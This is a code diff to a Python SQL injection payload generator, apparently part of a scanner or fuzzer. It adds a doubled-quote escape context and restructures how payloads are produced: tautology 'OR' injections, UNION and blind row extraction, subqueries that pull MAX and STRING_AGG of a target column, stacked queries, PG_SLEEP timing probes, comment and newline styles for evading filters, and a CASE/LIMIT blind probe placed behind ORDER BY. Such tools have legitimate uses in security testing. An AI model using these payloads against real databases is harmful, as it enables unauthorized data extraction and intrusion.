@@ -42,6 +42,7 @@ RARE = (
     ('"', '"'),  # a name: ORDER BY "…"
     ("\u02bc", "\u02bc"),  # an apostrophe that becomes a quotation mark where text is normalized after it was checked
     ("\uff07", "\uff07"),
+    ("''", "'"),  # where only the first quotation mark is doubled
     ("\\'", "'"),  # where quotation marks are escaped with a backslash, which is no escape in standard SQL
 )
 
@@ -69,7 +70,9 @@ class Style:
 WORD = re.compile("[A-Z]{2,}")
 FILTERED = re.compile(r"\b(UNION|SELECT|OR|AND)\b")
 """Words that filters take out."""
-STYLES = (Style(" ", False, False, True), Style("\n", True, False, False), Style("/**/", False, True, True))
+PLAIN = Style(" ", False, False, True)
+QUIET = Style("\n", True, False, False)
+DOUBLED = Style("/**/", False, True, False)
 
 
 def attack(
@@ -104,28 +107,32 @@ class _Injecting:
         self.normal, self.ran = normal, ran
 
     def go(self) -> None:
-        for style in STYLES:
-            plain = style is STYLES[0]
-            for opening, closing in self._shuffled(CONTEXTS if plain else CONTEXTS[:3]):
-                write = _Writer(style, self.rng, opening, closing, self.normal)
-                self._direct(write)
-                if self.table:
-                    self._union(write, ("NULL", "'1'") if plain else ("NULL",))
-                    self._blind(write)
-                self._stacked(write)
-                self._sleeps(write)
+        for opening, closing in self._shuffled(CONTEXTS):
+            write = _Writer(PLAIN, self.rng, opening, closing, self.normal)
+            self._rows(write, ("NULL", "'1'") if (opening, closing) in CONTEXTS[:3] else ("NULL",))
+            self._values(write)
+            self._stacked(write)
+            self._sleeps(write)
+        # Each of these walks around one thing only, so not all of it is tried again.
+        for style in (QUIET, DOUBLED):
+            for opening, closing in self._shuffled(CONTEXTS[: 3 if style is QUIET else 2]):
+                self._rows(_Writer(style, self.rng, opening, closing, self.normal), ("NULL",))
         for opening, closing in self._shuffled(RARE):
-            self._direct(_Writer(STYLES[0], self.rng, opening, closing, self.normal))
+            self._rows(_Writer(PLAIN, self.rng, opening, closing, self.normal), ("NULL",))
 
     def _shuffled(self, some: Sequence[tuple[str, str]]) -> list[tuple[str, str]]:
         return self.rng.sample(some, len(some))
 
     # Out directly ---------------------------------------------------------------------------------------------
 
-    def _direct(self, write: _Writer) -> None:
+    def _rows(self, write: _Writer, fills: Sequence[str]) -> None:
         self._look(write.after("OR " + self._true()), "or")
-        self._look(write.instead("OR " + self._true()), "or")
         self._look(write.after(""), "or")
+        if self.table:
+            self._union(write, fills)
+            self._blind(write)
+
+    def _values(self, write: _Writer) -> None:
         if self.table:
             for some in (f"MAX({self.column})", f"STRING_AGG({self.column},',')"):
                 one = f"(SELECT {some} FROM {self.table})"
@@ -269,7 +276,8 @@ class _Writer:
             yield lambda asked: self.said(f"(CASE WHEN {asked} THEN {self._normal or 'NULL'} ELSE NULL END)")
             yield lambda asked: self.said(f"(CASE WHEN {asked} THEN {self._normal or 'NULL'} ELSE NULL END) DESC")
             yield lambda asked: self.said(f"(CASE WHEN {asked} THEN 1 ELSE 1/(SELECT 0) END)")
-            yield lambda asked: f"{self._normal},{self.said(f'(CASE WHEN {asked} THEN 1 ELSE 1/(SELECT 0) END)')}"
+            # Behind an ORDER BY, where a server leaves out what is the same for all rows.
+            yield lambda asked: f"{self._normal} {self.said(f'LIMIT (CASE WHEN {asked} THEN 9 ELSE 0 END)')} --"
 
     def sleeps(self) -> Iterator[Callable[[Any], str]]:
         yield lambda seconds: self.statement(f"SELECT PG_SLEEP({seconds})")
